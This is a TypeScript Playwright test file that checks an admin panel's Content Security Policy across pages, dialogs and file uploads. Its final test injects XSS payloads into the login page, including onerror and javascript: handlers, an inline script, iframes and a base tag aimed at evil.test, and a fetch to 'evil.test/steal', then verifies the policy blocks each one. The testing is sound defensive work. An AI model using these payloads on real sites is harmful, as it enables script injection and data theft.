import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import type { Browser, Page } from 'playwright-core'
import { makeCompany, makePerson, password } from '../helpers/factories.ts'
import { pdf, png } from '../int/web/files.ts'
import { buildPanel, type Product, startProduct } from './product.ts'
import { logIn, openScreen, type Screen, startBrowser } from './screen.ts'

jest.setTimeout(240_000)

let product: Product
let browser: Browser

beforeAll(buildPanel, 600_000)
beforeAll(async () => {
  product = await startProduct()
  const { id } = await makeCompany(product.app.payload, 'mvule')
  await makePerson(product.app.payload, { company: id, name: 'Njeri Owner', isOwner: true })
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  await product?.stop()
})

type Watched = Screen & { violations: string[] }

/** A window that notes what the policy of the page has stopped. */
const open = async (dark: boolean): Promise<Watched> => {
  const screen = await openScreen(browser, product.url, { dark })
  const violations: string[] = []
  await screen.page.exposeFunction('noteViolation', (text: string) => void violations.push(text))
  await screen.page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { noteViolation } = globalThis as unknown as { noteViolation: (text: string) => void }
      noteViolation(`${effectiveDirective} ${blockedURI} ${sourceFile} on ${location.pathname}`)
    }),
  )
  return { ...screen, violations }
}

const visit = async (page: Page, path: string): Promise<void> => {
  await page.goto(`/admin/${path}`)
  await page.waitForLoadState('networkidle')
}

const collections = ['projects', 'people', 'contracts', 'documents', 'invoices', 'staff', 'roles', 'audit-log']

describe.each([
  ['light', false],
  ['dark', true],
])('the panel under its policy, %s', (_name, dark) => {
  let screen: Watched
  beforeAll(async () => {
    screen = await open(dark)
  })
  afterAll(() => screen?.context.close())

  test('pages without a log-in, the dashboard, lists and forms', async () => {
    const { page, violations } = screen
    for (const path of ['login', 'forgot', 'sign-up']) await visit(page, path)
    await logIn(screen, 'administrator@mvule.test', password)
    for (const slug of collections) await visit(page, `collections/${slug}`)
    for (const path of ['account', 'security', 'collections/contracts/create']) await visit(page, path)
    expect(violations).toEqual([])
  })

  test('menus, pickers of dates, dialogs and messages', async () => {
    const { page, violations } = screen
    await visit(page, 'collections/blocked-ips/create')
    await page.locator('#field-cidr').fill('198.51.100.0/24')
    await page.locator('#field-reason').fill('Attacks')
    await page.locator('.react-datepicker__input-container input').click()
    await page.locator('.react-datepicker__navigation--next').click()
    await page.locator('.react-datepicker__day--015').first().click()
    await page.locator('#action-save').click()
    await page.locator('[data-sonner-toast]').waitFor()
    await visit(page, 'collections/contracts/create')
    await page.locator('.react-select').first().click()
    await page.locator('.rs__menu').waitFor()
    await visit(page, 'collections/people')
    await page.locator('tbody input[type=checkbox]').first().click()
    await page.getByRole('button', { name: 'Delete' }).first().click()
    await page.getByText('Confirm deletion').waitFor()
    expect(violations).toEqual([])
  })

  test('a picture is uploaded and shown, a file that lies is refused in words', async () => {
    const { page, violations } = screen
    const choose = async (name: string, buffer: Buffer): Promise<void> => {
      await visit(page, 'collections/documents/create')
      await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/octet-stream', buffer })
      await page.locator('#field-name').fill('Id card')
      await page.locator('#action-save').click()
    }
    await choose('id card.png', await png())
    await page.waitForURL(/documents\/[0-9a-f-]{36}/)
    await page.waitForFunction(() => [...document.images].some(({ naturalWidth }) => naturalWidth === 64))
    await choose('lease.png', pdf())
    await page.getByText('The content of the file is not what .png says.').first().waitFor()
    expect(violations).toEqual([])
  })
})

test('what gets into a page does not run, load or send', async () => {
  const screen = await open(false)
  const { page, violations } = screen
  await visit(page, 'login')
  await page.evaluate(() => {
    const add = (html: string): void => document.body.insertAdjacentHTML('beforeend', html)
    add(
      '<img src="/none.png" onerror="globalThis.hacked = 1"><a id="run" href="javascript:globalThis.hacked = 2">x</a>',
    )
    add('<iframe src="https://evil.test"></iframe><object data="/x"></object><base href="https://evil.test/">')
    add('<img src="https://evil.test/beacon.png"><style>body { display: none }</style>')
    const script = document.createElement('div')
    script.innerHTML = '<script>globalThis.hacked = 3</' + 'script>'
    document.body.append(script)
    document.getElementById('run')?.click()
    fetch('https://evil.test/steal').catch(() => undefined)
  })
  await page.waitForTimeout(1_000)
  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined()
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  const stopped = violations.map((text) => text.split(' ', 1)[0]).sort()
  expect([...new Set(stopped)]).toEqual([
    'base-uri',
    'connect-src',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ])
  await screen.context.close()
})
